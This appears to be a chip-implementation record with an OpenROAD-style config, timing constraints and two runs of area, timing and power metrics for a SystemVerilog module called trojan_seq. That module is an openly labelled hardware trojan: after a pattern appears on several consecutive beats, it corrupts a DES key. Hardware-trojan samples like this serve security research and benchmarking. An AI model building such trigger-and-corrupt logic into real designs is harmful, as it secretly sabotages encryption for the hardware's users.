===== config.mk =====
export PLATFORM = sky130hd
export DESIGN_NAME = trojan_seq
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/trojan_seq.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export CORE_UTILIZATION = 24
export DETAILED_ROUTE_END_ITERATION = 8
export PLACE_DENSITY_LB_ADDON = 0.08
export SLEW_MARGIN = 20
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit

===== constraint.sdc =====
create_clock -name clk -period 2 [get_ports clk]
set_input_delay 0.4 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.4 -clock clk [all_outputs]
set_load 0.03 [all_outputs]

===== src/rtl/trojan_seq.sv =====
// Sequential key-corruption trojan for the DES key path: after HITS consecutive
// matching valid beats it XORs PAYLOAD_MASK into the key for ACTIVE_BEATS beats.
module trojan_seq #(
  parameter int                    KEY_W        = 56,
  parameter int                    TRIG_W       = 32,
  parameter int                    MATCH_W      = 4,
  parameter logic [MATCH_W-1:0]    CONDITION    = 4'b1010,
  parameter int                    HITS         = 3,
  parameter logic [KEY_W-1:0]      PAYLOAD_MASK = 56'h1,
  parameter int                    ACTIVE_BEATS = 16
) (
  input  logic              clk,
  input  logic              reset,
  input  logic              valid,
  input  logic [KEY_W-1:0]  key,
  input  logic [1:TRIG_W]   trigger,
  output logic [KEY_W-1:0]  payload,
  output logic              armed
);

  localparam int HIT_W = $clog2(HITS + 1);
  localparam int ACT_W = (ACTIVE_BEATS == 0) ? 1 : $clog2(ACTIVE_BEATS + 1);
  localparam logic [HIT_W-1:0] HITS_V   = HIT_W'(HITS);
  localparam logic [ACT_W-1:0] ACT_INIT = ACT_W'(ACTIVE_BEATS);

  typedef enum logic [1:0] {IDLE, COUNT, ACTIVE} state_t;

  state_t             state_q, state_d;
  logic [HIT_W-1:0]   hit_q, hit_d;
  logic [ACT_W-1:0]   act_q, act_d;
  logic               match;
  logic               unused_trigger;

  assign match = (trigger[1:MATCH_W] == CONDITION);
  // Only the compare field is used; the rest of the plaintext is deliberately ignored.
  assign unused_trigger = ^trigger;

  // Key path stays combinational so the DES core sees no extra register stage.
  assign armed   = (state_q == ACTIVE);
  assign payload = armed ? (key ^ PAYLOAD_MASK) : key;

  // NOTE: every signal gets its default before the case so no latch is inferred.
  always_comb begin
    state_d = state_q;
    hit_d   = hit_q;
    act_d   = act_q;
    case (state_q)
      IDLE: begin
        hit_d = '0;
        act_d = '0;
        if (valid && match) begin
          if (HITS == 1) begin
            state_d = ACTIVE;
            act_d   = ACT_INIT;
          end else begin
            state_d = COUNT;
            hit_d   = HIT_W'(1);
          end
        end
      end
      COUNT: begin
        if (valid) begin
          if (match) begin
            hit_d = hit_q + 1'b1;
            if (hit_q + 1'b1 == HITS_V) begin
              state_d = ACTIVE;
              act_d   = ACT_INIT;
            end
          end else begin
            state_d = IDLE;
            hit_d   = '0;
          end
        end
      end
      ACTIVE: begin
        // Matches are ignored here; only valid beats consume the window.
        if (valid && (ACTIVE_BEATS != 0)) begin
          if (act_q == ACT_W'(1)) begin
            state_d = IDLE;
            hit_d   = '0;
            act_d   = '0;
          end else begin
            act_d = act_q - 1'b1;
          end
        end
      end
      default: begin
        state_d = IDLE;
        hit_d   = '0;
        act_d   = '0;
      end
    endcase
  end

  // NOTE: sequential state uses non-blocking assignments so all flops update together.
  always_ff @(posedge clk) begin
    if (reset) begin
      state_q <= IDLE;
      hit_q   <= '0;
      act_q   <= '0;
    end else begin
      state_q <= state_d;
      hit_q   <= hit_d;
      act_q   <= act_d;
    end
  end

endmodule

==> results of run 1 <==
what timing repair did:
item	CTS	global route
setup endpoints to repair	0	1
hold endpoints to repair	0	0
resized for setup	0	1
layer usage:
layer / vias up / global-route usage (%) / part of all wire [%]
li1: 301 / - / -
met2: 34 / 13.7 / 46
met4: 0 / 6.25 / 2.5
met5: - / 0 / 0
met1: 273 / 9.05 / 43
met3: 14 / 2.67 / 8.0
cell families (layout without fill, tap and decap cells):
family,Yosys count,count (layout),share of synthesized area [%]
AO/OA/AOI/OAI,17,17,13.7
XOR/XNOR,1,1,0.832
adder cells (fa/ha/maj),6,6,7.13
buffers and inverters,66,29,43.1
flip-flops,9,9,17.1
multiplexers,3,3,2.97
AND/OR/NAND/NOR,26,26,15.2
stage by stage:
step,area [um2],total power [uW],hold slack [ns]
after global placement,832,230,0.486
after detailed placement,832,230,0.498
after floorplan,1050,409,0.465
after CTS,877,451,0.510
final,880,440,0.499
after global routing,880,459,0.541
final cells by class:
class,instances,area share [%]
Tap cell,50,7.11
Clock buffer,4,5.12
Timing Repair Buffer,15,15.4
Inverter,10,4.27
Sequential cell,9,20.5
Multi-Input combinational cell,53,47.7
synthesized netlist by cell type:
library cell,instances
buf_4,55
inv_1,10
dfxtp_1,9
nor2_1,7
ha_1,6
nand2_1,5
nor3_1,3
a21oi_1,2
mux2i_1,2
nand3_1,2
nand4_1,2
o21ai_0,2
o21ai_1,2
a221oi_2,1
a311oi_1,1
a31oi_1,1
a32o_1,1
and4b_1,1
and4bb_2,1
clkbuf_1,1
mux2_1,1
nand4bb_1,1
nor2b_1,1
nor3b_1,1
nor4b_4,1
o2111ai_2,1
o21a_1,1
o21a_4,1
o21bai_1,1
o22ai_2,1
o31ai_1,1
o32ai_1,1
or2_1,1
xor2_1,1
critical path, stage by stage, from the launching register on:
cell	delay (ns)
dfxtp_1	0.33
inv_1	0.08
ha_1	0.24
buf_4	0.16
o21bai_1	0.15
o21a_4	0.21
o2111ai_2	0.14
a221oi_2	0.27
final timing paths:
kind | end | slack [ns] | cells after the start
setup / recovery | state_q[0] | 0.33 | 7
hold / removal | hit_q[1] | 0.50 | 2
setup reg to reg | state_q[0] | 0.33 | 7
hold reg to reg | hit_q[1] | 0.50 | 2
sequential cells by signal, indices dropped and copies added, names as in the netlist:
signal / cells
act_q: 5
hit_q: 2
state_q: 2
power groups by stage:
stage               Clock (uW)  Combinational (uW)  Sequential (uW)
floorplan                    0                 225              184
detailed placement           0                45.4              184
finish                     214                45.1              181
global route               230                48.9              180
CTS                        225                45.7              181
global placement             0                45.8              184
==> impl_metrics.json, run 1 <==
{
  "preCtsSetupSlack_ns": 0.174,
  "ant_nets": 0,
  "critPathLaunch": "state_q[0]",
  "clkLatencyLatePin_ns": 0.23,
  "yosysTopAreaCell": "buf_4",
  "multi_input_area_um2": 419,
  "grt.total_usage_pct": 8.42,
  "finalHoldViolCount": 0,
  "postSynthCellCount": 128,
  "numPortBuffers": 9,
  "grt_max_degree": 9,
  "mostFrequentLayoutCells": "inv_1 (10), dfxtp_1 (9), nor2_1 (7), clkdlybuf4s50_1 (7), buf_4 (7)",
  "die_h_um": 68.3,
  "fillers": 473,
  "synthTopCellsByArea": "buf_4 (39%), dfxtp_1 (17%), ha_1 (7.1%)",
  "power_switching_uw": 95.4,
  "ys_ff_latch": 9,
  "hold_path_class": "register to register",
  "rsz0062_at_grt": "no",
  "switching_share_pct": 21.7,
  "coreArea_um2": 4120,
  "gr-total-overflow": 0,
  "grt_pass1_wl_um": 2930,
  "skew_ns": 0.00441,
  "final_layout_size_suffix_gt1_share_pct": 17.6,
  "synth.distinct_cells": 34,
  "max_slew_margin_pct": 79.1,
  "fin_ws_ns": 0.327,
  "dp.cells": 137,
  "crit_type": "register to register",
  "wl_um": 1780,
  "p_seq_share_pct": 41.1,
  "drtIter0Drc": 14,
  "p_int_uw": 344,
  "tns_ns": 0,
  "p_leak_uw": 0.000330,
  "clk_pin_slew_worst_paths_ns": 0.05,
  "grt_pass1_vias": 669,
  "seq_area_frac_synth_pct": 17.1,
  "gp_congestion": 0.717,
  "die_w_um": 68.3,
  "yosys_warnings": 0,
  "combPwrFrac_pct": 10.3,
  "cts_buffer_depth": 2,
  "peakVddDrop_v": 0.000184,
  "startpoint_type": "register",
  "outcome": "finished clean",
  "hold_start": "hit_q[1]",
  "route.vias.total": 622,
  "seqCellArea_um2": 180,
  "postSynthNetCount": 225,
  "hpwl_um": 1440,
  "setup_violations": 0,
  "fp-row-count": 23,
  "viasPerCell": 4.41,
  "power.density_nw_per_um2": 500,
  "num_io_pins": 148,
  "period_share_pct": 83.7,
  "synth_area_per_cell_um2": 8.23,
  "slew_viol_final": 0,
  "syn_area_um2": 1050,
  "worstSetupEndpointType": "register",
  "initial_core_util_pct": 25.6,
  "drc_errors": 0,
  "tritoncts": "yes",
  "required_ns": 2.15,
  "postCtsHoldBufs": 0,
  "root_buffer": "clkbuf_8",
  "power_frac_clock_pct": 48.7,
  "antenna_found_initial": 0,
  "yosysTopAreaCellShare_pct": 39.2,
  "maxCapViolations": 0,
  "fin_cells": 141,
  "area_growth_pct": -16.5,
  "nNetsFinal": 189,
  "h-tree-depth": 1,
  "worstReg2RegStart": "state_q[0]",
  "post-cts-setup-buffers": 0,
  "clock_sinks": 9,
  "n_antenna_cell": 0,
  "routedWlPerCell_um": 12.7,
  "crit_fanout": 7,
  "final_common_cell": "inv_1",
  "firstDrtPassIters": 3,
  "utilization_pct": 21.4,
  "cts_buffers": 3,
  "arrival_ns": 1.82,
  "fmax_mhz": 598,
  "fin_crit_ns": 1.67,
  "worstMarginPinSlew_ns": 0.313,
  "die_area_um2": 4660
}
Power figures use the tool's default switching activity.
==> run 2, diff against run 1 <==
==> constraint.sdc (replaced) <==
create_clock -name clk -period 1.54 [get_ports clk]
set_input_delay 0.308 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.308 -clock clk [all_outputs]
set_load 0.03 [all_outputs]
==> impl_metrics.json, run 2 (same netlist as run 1, synthesis figures left out) <==
{
  "nNetsFinal": 208,
  "wl_um": 2050,
  "utilization_pct": 27.0,
  "post-layout-total-power_uw": 599,
  "crit_type": "register to output pin",
  "worstSetupEndpointType": "output pin",
  "clk_pin_slew_worst_paths_ns": 0.05,
  "drtIter0Drc": 12,
  "h-tree-depth": 1,
  "largest_register": "act_q",
  "startpoint_type": "register",
  "grt_pass1_wl_um": 3450,
  "n_antenna_cell": 0,
  "required_ns": 1.23,
  "clock_sinks": 9,
  "area_growth_pct": 5.58,
  "numPortBuffers": 9,
  "arrival_ns": 1.23,
  "p_seq_share_pct": 39.2,
  "mostFrequentLayoutCells": "buf_4 (23), inv_1 (7), nor2_1 (7), dfxtp_1 (7), clkdlybuf4s50_1 (7)",
  "slew_viol_final": 0,
  "die_w_um": 68.3,
  "ant_nets": 0,
  "setup_violations": 0,
  "peakVddDrop_v": 0.000308,
  "largest_register_ffs": 5,
  "gp_congestion": 0.726,
  "num_io_pins": 148,
  "power_switching_uw": 141,
  "viasPerCell": 4.56,
  "firstDrtPassIters": 4,
  "combPwrFrac_pct": 12.4,
  "finalHoldViolCount": 0,
  "drc_errors": 0,
  "skew_ns": 0.00628,
  "period_share_pct": 99.7,
  "initial_core_util_pct": 25.6,
  "switching_share_pct": 23.5,
  "power_frac_clock_pct": 48.4,
  "cts_buffers": 3,
  "rsz0062_at_grt": "yes",
  "grt_max_degree": 9,
  "grt.total_usage_pct": 10.0,
  "fmax_mhz": 651,
  "final_layout_size_suffix_gt1_share_pct": 44.5,
  "p_int_uw": 459,
  "die_h_um": 68.3,
  "gr-total-overflow": 0,
  "fp-row-count": 23,
  "cts_buffer_depth": 2,
  "reg_top3": "act_q x5, hit_q x2, state_q x2",
  "die_area_um2": 4660,
  "tns_ns": 0,
  "max_slew_margin_pct": 80.0,
  "routedWlPerCell_um": 12.8,
  "worstMarginPinSlew_ns": 0.298,
  "antenna_found_initial": 0,
  "outcome": "finished clean",
  "p_leak_uw": 0.000431,
  "tritoncts": "yes",
  "hpwl_um": 1530,
  "route.vias.total": 729,
  "coreArea_um2": 4120,
  "maxCapViolations": 0,
  "hold_path_class": "register to register",
  "fin_crit_ns": 1.54,
  "fillers": 443,
  "final_common_cell": "buf_4",
  "root_buffer": "clkbuf_8",
  "clkLatencyLatePin_ns": 0.24,
  "power.density_nw_per_um2": 539,
  "grt_pass1_vias": 774,
  "crit_fanout": 4
}
## run 2: cell count changes in the layout (fill, tap and decap cells not counted), sizes merged
cell,change
buf,+20
dlymetal6s2s,-1
## run 2: cell type report
class	instances	area (um2)	area share, %
clock buffer	4	45.0	4.05
inverter	10	42.5	3.82
multi-input combinational	53	492	44.2
sequential	9	183	16.4
tap	50	62.6	5.62
timing repair buffer	34	288	25.9
## run 2: final timing paths
path              startpoint  depth (start not counted)  slack (ns)          to
setup reg to reg  state_q[1]                          8        0.02  state_q[0]
setup / recovery  state_q[1]                          5       0.004  payload[0]
hold reg to reg   state_q[0]                          2        0.51  state_q[0]
hold / removal    state_q[0]                          2        0.51  state_q[0]
## run 2: timing repair
item	in CTS	in global routing
resized for setup	8	15
pin swaps	5	9
hold buffers	0	0
endpoints found under the setup margin	6	9
setup buffers	5	3
## run 2: metal layers
metal	vias to the layer above	share of wire [%]	track usage, %
met1	339	39	10.0
met2	42	51	16.8
met5	-	0	0
met3	8	8.8	6.33
met4	0	1.2	3.39
li1	340	-	-
## run 2: power groups by stage
stage	clock network, uW	registers (uW)	logic (uW)
floorplan	0	239	292
global placement	0	239	64.2
detailed placement	0	239	64.1
CTS	302	234	66.2
global route	314	235	80.9
finish	290	235	74.2
## run 2: critical path, stage by stage, from the launching register on
cell and delay (ns):
dfxtp_2 0.32, buf_6 0.11, ha_4 0.16, buf_6 0.11
xor2_1 0.13, buf_4 0.16
## run 2: through the flow
stage	std cells	hold slack, ns	setup slack (ns)	cell area (um2)
after CTS	157	0.520	-0.0123	1030
after detailed placement	148	0.506	-0.282	925
after global routing	160	0.525	-0.0732	1110
final	160	0.513	0.00401	1110
after global placement	148	0.481	-0.303	925
after floorplan	128	0.465	0.0000348	1070
